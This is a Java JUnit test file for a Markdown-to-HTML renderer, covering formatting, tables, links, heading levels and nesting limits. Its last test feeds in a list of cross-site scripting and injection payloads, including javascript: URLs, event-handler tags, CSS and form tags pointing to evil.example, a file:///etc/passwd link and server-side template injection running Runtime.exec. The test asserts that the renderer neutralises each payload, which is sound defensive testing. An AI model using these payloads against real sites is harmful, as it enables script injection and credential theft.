package org.ogptoolbox.base;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {

    /** Whatever was typed, these are the only tags and attributes that may come out. */
    private static final Pattern ALLOWED_TAG = Pattern.compile("</?(p|br|hr|strong|em|code|pre|blockquote|ul|li|h[3-6]"
            + "|table|thead|tbody|tr) ?/?>|</?(a|ol|td|th|div)>"
            + "|<a href=\"(https?://|mailto:)[^\"<>]*\" rel=\"nofollow noopener ugc\">"
            + "|<div class=\"table\" tabindex=\"0\">|<ol start=\"\\d+\">|<t[hd] align=\"(left|right|center)\">");

    @Test
    void whatPeopleWriteBecomesWhatTheyMean() {
        assertThat(Markdown.html("**Bold** and *soft*\n\n1. one\n2. two\n\n> said\n\n`code`"))
                .contains("<strong>Bold</strong> and <em>soft</em>", "<ol><li>one</li><li>two</li></ol>")
                .contains("<p>said</p>", "<code>code</code>");
    }

    @Test
    void tablesCanBeScrolledByKeyboard() {
        assertThat(Markdown.html("| a | b |\n|---|--:|\n| 1 | 2 |"))
                .startsWith(
                        "<div class=\"table\" tabindex=\"0\"><table><thead><tr><th>a</th><th align=\"right\">b</th>")
                .endsWith("</table></div>\n");
    }

    @Test
    void linksLeadOutWithoutVouchingForWhatIsThere() {
        assertThat(Markdown.html("[site](https://example.org/a?b=1&c=2) <mailto:x@example.org>"))
                .contains(
                        "<a href=\"https://example.org/a?b&#61;1&amp;c&#61;2\" rel=\"nofollow noopener ugc\">site</a>")
                .contains("<a href=\"mailto:x&#64;example.org\" rel=\"nofollow noopener ugc\">");
    }

    @Test
    void headingsBeginBelowTheSectionAndLeaveNoLevelOut() {
        assertThat(Markdown.html("# One\n\n### Two\n\n# Three\n\n###### Four"))
                .contains("<h3>One</h3>", "<h4>Two</h4>", "<h3>Three</h3>", "<h4>Four</h4>");
        assertThat(Markdown.html("### Deep first\n\n# Higher later"))
                .contains("<h3>Deep first</h3>", "<h3>Higher later</h3>");
    }

    @Test
    void theWordsAloneForDescriptions() {
        assertThat(Markdown.text("# A *tool*\n\n- that [votes](https://example.org)\n- and **counts**"))
                .contains("A tool", "that", "votes", "counts")
                .doesNotContain("*", "#", "\n");
    }

    @Test
    void nothingGivesNothing() {
        assertThat(Markdown.html("")).isEmpty();
        assertThat(Markdown.text(" \n ")).isEmpty();
    }

    @Test
    void deepNestingIsNoWayToExhaustTheServer() {
        assertThat(Markdown.html(">".repeat(5_000) + "x")).contains("x");
        assertThat(Markdown.html("[".repeat(5_000) + "x" + "](y)".repeat(1_000)))
                .contains("x");
        assertThat(Markdown.html("*a **b ".repeat(1_400))).contains("b");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"https://example.org\" onclick=\"alert(1)\">x</a>",
                "<p style=\"background:url(javascript:alert(1))\">x</p>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=\"https://evil.example/\">",
                "<form action=https://evil.example><input name=password><button>go</button></form>",
                "<details open ontoggle=alert(1)>",
                "<body onload=alert(1)>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](java\tscript:alert(1))",
                "[x](&#106;avascript:alert(1))",
                "[x](javascript&colon;alert(1))",
                "[x](\u0001javascript:alert(1))",
                "[x](vbscript:msgbox(1))",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x](file:///etc/passwd)",
                "[x](//evil.example)",
                "[x](/app/logout)",
                "[x](https://example.org\" onmouseover=\"alert(1))",
                "[x](<https://example.org\"onmouseover=alert(1)>)",
                "![x](javascript:alert(1))",
                "![x](https://evil.example/pixel.gif)",
                "![\"onerror=\"alert(1)](x)",
                "<javascript:alert(1)>",
                "[x]: javascript:alert(1)\n\n[x]",
                "[x](https://example.org 'title\"><script>alert(1)</script>')",
                "```\"><script>alert(1)</script>\ncode\n```",
                "`<script>alert(1)</script>`",
                "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
                "# <script>alert(1)</script>",
                "{{constructor.constructor('alert(1)')()}}",
                "[[${7*7}]] [(${T(java.lang.Runtime).getRuntime().exec('id')})]",
                "<div th:utext=\"${7*7}\">x</div>",
                "\u003cscript\u003ealert(1)\u003c/script\u003e",
                "<p\u0000><script\u0000>alert(1)</script>",
            })
    void anAttackRemainsAText(String attack) {
        var html = Markdown.html(attack);

        assertThat(ALLOWED_TAG.matcher(html.replace("<!-- -->", "")).replaceAll(""))
                .doesNotContain("<", ">");
        assertThat(html).doesNotContainIgnoringCase("href=\"javascript").doesNotContain("evil.example\"");
    }
}
